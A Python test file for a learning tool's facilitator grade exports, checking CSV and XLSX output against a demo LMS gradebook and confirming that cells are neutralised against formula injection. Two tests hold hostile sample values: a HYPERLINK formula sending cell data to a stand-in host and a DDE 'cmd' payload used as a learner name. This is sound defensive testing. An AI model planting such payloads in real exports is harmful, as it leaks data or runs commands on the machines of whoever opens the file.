"""Exports a programme officer can use, opened the way a spreadsheet would (csv, openpyxl), compared
with what the demo LMS's gradebook received; every text cell neutralised in CSV and XLSX alike."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime

import requests
from flask import Flask
from openpyxl import load_workbook

from e2e_support import browse_launch
from facilitator_support import facilitator, learner
from grade_helpers import drain
from learner_helpers import Learner, submit_quiz
from lti_tool.exports import csv_bytes, Table, xlsx_bytes
from lti_tool.grades.worker import GradeWorker
from lti_tool.runtime import runtime

MODULE = "m07"   # no other test works on m07 in the shared demo course
KEISHA, MARCUS, FACILITATOR = "4", "5", "3"


def as_learner(page: requests.Response) -> Learner:
    base = "/".join(page.url.split("/")[:5])
    return Learner(base=base, tool_url="/".join(page.url.split("/")[:3]))


def test_exports_match_the_gradebook(app: Flask, demo_lms) -> None:
    placement = demo_lms.lms.add_placement(MODULE, "Module 07 — exports test")
    marcus = as_learner(browse_launch(demo_lms, MARCUS, placement.id))
    with app.app_context():
        pages = [p.id for p in runtime(app).catalogue.get(MODULE).pages("en")[0]]
    marcus.read_all(pages, MODULE)
    assert submit_quiz(marcus, app, MODULE, correct=True).status_code == 303
    keisha = as_learner(browse_launch(demo_lms, KEISHA, placement.id))
    assert submit_quiz(keisha, app, MODULE, correct=False).status_code == 303
    drain(GradeWorker(app))
    with demo_lms.lms.state.lock:
        item = demo_lms.lms.state.placements[placement.id].line_item_id
        book = {sub: demo_lms.lms.state.scores[(item, sub)].received for sub in (MARCUS, KEISHA)}

    staff = browse_launch(demo_lms, FACILITATOR, placement.id)
    base = "/".join(staff.url.split("/")[:5])
    today = date.today().isoformat()

    # CSV: UTF-8 with a byte order mark, file name with the course label and the date
    got = requests.get(f"{base}/facilitator/m/{MODULE}/export.csv", timeout=10)
    assert got.status_code == 200 and got.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert got.headers["Content-Disposition"] == f'attachment; filename="emm2-EMM2-CARIB-{MODULE}-class-{today}.csv"'
    assert got.content.startswith(b"\xef\xbb\xbf")
    rows = {r["name"]: r for r in csv.DictReader(io.StringIO(got.content.decode("utf-8-sig")))}
    for name, sub in (("Marcus Charles", MARCUS), ("Keisha Joseph", KEISHA)):
        sent = book[sub]
        assert int(rows[name]["score_percent"]) == round(100 * sent["scoreGiven"] / sent["scoreMaximum"])
        assert rows[name]["grade_delivery"] == "delivered"
        assert rows[name]["completed"] == ("yes" if sent["activityProgress"] == "Completed" else "no")
    marcus_row = rows["Marcus Charles"]
    assert (marcus_row["country"], marcus_row["country_name"], marcus_row["agency"]) == (
        "GD", "Grenada", "Ministry of Labour")
    with app.app_context():
        assert marcus_row["module_title"] == runtime(app).catalogue.get(MODULE).title("en").text
    assert marcus_row["status"] == "completed" and marcus_row["attempts_used"] == "1"
    assert datetime.fromisoformat(marcus_row["completed_at"].replace("Z", "+00:00")).tzinfo is not None
    assert rows["Keisha Joseph"]["status_text"] == "failed, 2 attempts left (0%)"
    assert rows["Keisha Joseph"]["agency"] == "Immigration Department"

    # XLSX: the same lines, plus the countries and the questions
    got = requests.get(f"{base}/facilitator/m/{MODULE}/export.xlsx", timeout=10)
    assert got.headers["Content-Disposition"].endswith(f'-{MODULE}-class-{today}.xlsx"')
    book_x = load_workbook(io.BytesIO(got.content))
    assert book_x.sheetnames == [MODULE, "By country", "Questions"]
    sheet = book_x[MODULE]
    header = [c.value for c in sheet[1]]
    lines = {r[0]: dict(zip(header, r)) for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert lines["Marcus Charles"]["score_percent"] == int(marcus_row["score_percent"])
    assert isinstance(lines["Marcus Charles"]["completed_at"], datetime)
    countries = {r[0]: r for r in book_x["By country"].iter_rows(min_row=2, values_only=True)}
    completed = {code: row[5] for code, row in countries.items()}  # other tests share the demo course
    assert (completed["AG"], completed["GD"], completed["VC"]) == (0, 1, 0)  # every rollout country listed
    questions = list(book_x["Questions"].iter_rows(min_row=2, values_only=True))
    assert questions and all(q[0] == MODULE for q in questions)

    # the course's country report
    got = requests.get(f"{base}/facilitator/countries.xlsx", timeout=10)
    sheet = load_workbook(io.BytesIO(got.content))["By country"]
    assert [r[0] for r in sheet.iter_rows(min_row=2, max_row=4, values_only=True)] == ["AG", "GD", "VC"]
    assert requests.get(f"{base}/facilitator/countries.pdf", timeout=10).status_code == 404


def test_xlsx_cells_are_never_formulas() -> None:
    hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
    book = load_workbook(io.BytesIO(xlsx_bytes([Table("x", ["name", "n"], [[hostile, 3], ["-2+3", -3]])])))
    sheet = book["x"]
    assert sheet["A2"].value == "'" + hostile and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "'-2+3" and sheet["B3"].value == -3
    assert csv_bytes(Table("x", ["name"], [["@SUM(1)"]])).decode("utf-8-sig").splitlines()[1] == "'@SUM(1)"


def test_a_hostile_name_stays_text_in_the_course_export(launcher) -> None:
    learner(launcher, "X-1", "=cmd|' /C calc'!A0", country="GD")
    staff = facilitator(launcher)
    got = staff.get("/facilitator/export.xlsx")
    sheet = load_workbook(io.BytesIO(got.content))["Learners"]
    names = [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'=cmd|' /C calc'!A0" in names
    assert got.headers["Content-Disposition"].startswith('attachment; filename="emm2-TRAIN101-class-')
